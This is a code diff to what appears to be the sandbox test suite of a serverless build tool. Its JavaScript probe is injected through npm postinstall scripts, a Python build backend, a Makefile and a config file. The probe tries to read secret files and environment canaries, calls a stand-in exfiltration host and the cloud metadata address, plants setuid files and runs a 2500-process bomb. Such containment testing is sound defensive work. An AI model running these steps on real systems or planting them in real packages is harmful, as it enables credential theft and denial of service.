@@ -28,7 +28,7 @@ const fs = require('fs'), cp = require('child_process'), path = require('path'),
 const C = CONFIG
 module.exports = async () => {
   const broke = []
-  const attempt = (row, f) => { try { const r = f(); if (r) broke.push(row + ': ' + String(r).slice(0, 200)) } catch (e) {} }
+  const attempt = (row, f) => { try { const r = f(); if (r && row) broke.push(row + ': ' + String(r).slice(0, 200)) } catch (e) {} }
   for (const f of C.secrets) attempt('secrets', () => { fs.readFileSync(f); return f })
   attempt('environment', () => Object.keys(process.env).filter((k) => process.env[k].includes(C.canary)).join())
   for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n))) {
@@ -53,12 +53,17 @@ module.exports = async () => {
   attempt('', () => { fs.writeFileSync(path.join(out, 'suid'), '#!/bin/sh\n'); fs.chmodSync(path.join(out, 'suid'), 0o6755) })
   attempt('', () => cp.execFileSync('mkfifo', [path.join(out, 'fifo')], { stdio: 'ignore' }))
   attempt('', () => cp.spawn('setsid', ['sleep', C.marker], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref())
-  if (C.bomb) attempt('bomb', () => cp.spawnSync('sh', ['-c', 'i=0; while [ $i -lt 2500 ]; do sleep 60 & i=$((i+1)); done; echo all'], { timeout: 60000 }).stdout.includes('all') && 'all started')
   for (const url of [C.url, 'http://exfiltration.invalid/', 'http://169.254.169.254/latest/'])
     await new Promise((done) => {
       const r = http.get(url, { timeout: 5000 }, (a) => { broke.push('exfiltration: ' + url); a.resume(); done() })
       r.on('error', () => done()); r.on('timeout', () => { r.destroy(); done() })
     })
+  if (C.bomb) {
+    attempt('bomb', () => cp.spawnSync('sh', ['-c', 'i=0; while [ $i -lt 2500 ]; do sleep 61 >/dev/null 2>&1 & i=$((i+1)); done; echo all'], { timeout: 60000 }).stdout.includes('all') && 'all started')
+    for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n)))
+      attempt('', () => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8') === 'sleep\0' + '61\0' && process.kill(Number(pid), 'SIGKILL'))
+  }
+  attempt('', () => fs.writeFileSync(C.home + '/report.json', JSON.stringify(broke)))
   return broke
 }
 if (require.main === module) module.exports().then((b) => { process.stdout.write('REPORT' + JSON.stringify(b) + '\n')
@@ -93,7 +98,7 @@ type stage struct {
 
 const user = 65533 // a user of the rootless mode: nobody's
 
-// newStage writes a project. In its files ATTACK stands for the attack's text.
+// newStage writes a project. In its files @ATTACK@ stands for the attack's text.
 func newStage(t *testing.T, mode string, bomb bool, out string, files map[string]string) *stage {
 	t.Helper()
 	dir := t.TempDir()
@@ -122,7 +127,7 @@ func newStage(t *testing.T, mode string, bomb bool, out string, files map[string
 		if name == "evil.tgz" {
 			text = packed(t, map[string]string{"package/package.json": text, "package/index.js": "", "package/attack.js": attack})
 		}
-		write(t, filepath.Join(s.project, name), strings.Replace(text, "ATTACK", attack, 1))
+		write(t, filepath.Join(s.project, name), strings.Replace(text, "@ATTACK@", attack, 1))
 	}
 	write(t, filepath.Join(s.project, ".git", "config"), "")
 	program, err := os.ReadFile(ebb.Path)
@@ -135,6 +140,9 @@ func newStage(t *testing.T, mode string, bomb bool, out string, files map[string
 		t.Fatal(err)
 	}
 	if s.rootless {
+		if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil {
+			t.Fatal(err)
+		}
 		if err := filepath.WalkDir(dir, func(p string, _ fs.DirEntry, err error) error { return os.Lchown(p, user, user) }); err != nil {
 			t.Fatal(err)
 		}
@@ -225,7 +233,7 @@ func (s *stage) up() string {
 	}
 	_ = cmd.Process.Signal(syscall.SIGINT)
 	_ = cmd.Wait()
-	if !ready {
+	if !ready && !s.plain { // there the project is not what it was
 		s.t.Fatalf("ebb up did not become ready:\n%s", said.String())
 	}
 	return said.String()
@@ -245,7 +253,7 @@ func (s *stage) harm() []string {
 	if n := s.hits.Load(); n > 0 {
 		all = append(all, fmt.Sprintf("exfiltration: %d requests came", n))
 	}
-	for _, dir := range []string{filepath.Join(s.home, ".cache"), filepath.Join(s.home, ".npm")} {
+	for _, dir := range []string{filepath.Join(s.home, ".cache", "ebb", "builds", "shared"), filepath.Join(s.home, ".npm")} {
 		_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
 			if err == nil && d.Name() == "poison" {
 				all = append(all, "cache: "+p)
@@ -262,7 +270,9 @@ func (s *stage) harm() []string {
 		}
 		info, ierr := d.Info()
 		switch {
-		case ierr != nil || d.Name() == ".ebb":
+		case d.Name() == ".ebb":
+			return fs.SkipDir
+		case ierr != nil:
 		case info.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeNamedPipe|fs.ModeSocket|fs.ModeDevice) != 0:
 			all = append(all, "left behind: "+info.Mode().String()+" "+p)
 		case info.Mode()&fs.ModeSymlink != 0:
@@ -299,7 +309,11 @@ func (s *stage) report(text []byte) []string {
 
 func (s *stage) read(pattern string) []byte {
 	s.t.Helper()
-	list, _ := filepath.Glob(filepath.Join(s.project, pattern))
+	pattern = filepath.Join(s.project, pattern)
+	if s.plain { // there the project is not what it was
+		pattern = filepath.Join(s.home, "report.json")
+	}
+	list, _ := filepath.Glob(pattern)
 	if len(list) != 1 {
 		s.t.Fatalf("%s is %v", pattern, list)
 	}
@@ -325,21 +339,21 @@ var builders = []struct {
 	}, func(s *stage) []byte { s.up(); return s.read("node_modules/evil/report.json") }},
 	{"script of the project's own", "npm", "node_modules/evil/out", map[string]string{
 		"serverless.yml": oneNode, "h.js": "exports.f = async () => require('evil')", "package.json": `{"name":"shop","version":"1.0.0","dependencies":{"evil":"file:evil.tgz"},"scripts":{"postinstall":"node attack.js node_modules/report.json"}}`,
-		"evil.tgz": `{"name":"evil","version":"1.0.0"}`, "attack.js": "ATTACK",
+		"evil.tgz": `{"name":"evil","version":"1.0.0"}`, "attack.js": "@ATTACK@",
 	}, func(s *stage) []byte { s.up(); return s.read("node_modules/report.json") }},
 	{"build backend of a Python package", "python3", "out", map[string]string{
 		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: python3.11}\nfunctions: {f: {handler: h.f}}\n", "h.py": "def f(e, c): pass\n", "requirements.txt": "./evil\n",
 		"evil/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n[project]\nname = \"evil\"\nversion = \"1\"\n",
-		"evil/backend.py":     attackBackend, "evil/attack.js": "ATTACK",
+		"evil/backend.py":     attackBackend, "evil/attack.js": "@ATTACK@",
 	}, func(s *stage) []byte { s.up(); return s.read(".ebb/build/pip-*/evil_report.json") }},
 	{"Makefile", "make", "out/more", map[string]string{
 		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: provided.al2023}\nfunctions: {f: {handler: bootstrap, package: {artifact: out/f}}}\n",
-		"main.go":        "package main\n\nfunc main() {}\n", "go.mod": "module shop\n", "attack.js": "ATTACK",
+		"main.go":        "package main\n\nfunc main() {}\n", "go.mod": "module shop\n", "attack.js": "@ATTACK@",
 		"Makefile": "build:\n\tmkdir -p out/f\n\tcp main.go out/f/bootstrap\n\tnode attack.js out/f/report.json\n",
 	}, func(s *stage) []byte { s.up(); return s.read("out/f/report.json") }},
 	{"configuration that is a program", "node", "out", map[string]string{
 		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: nodejs20.x}\nfunctions: {f: {handler: h.f, environment: {REPORT: '${file(./attack.js):report}'}}}\n",
-		"h.js":           "exports.f = async () => 1", "attack.js": "ATTACK\nconst attack = module.exports; module.exports = async () => ({ report: JSON.stringify(await attack()) })\n",
+		"h.js":           "exports.f = async () => 1", "attack.js": "@ATTACK@\nconst attack = module.exports; module.exports = async () => ({ report: JSON.stringify(await attack()) })\n",
 	}, func(s *stage) []byte {
 		out, err := s.command(s.t.Context(), "inspect", "--json").Output()
 		if err != nil {
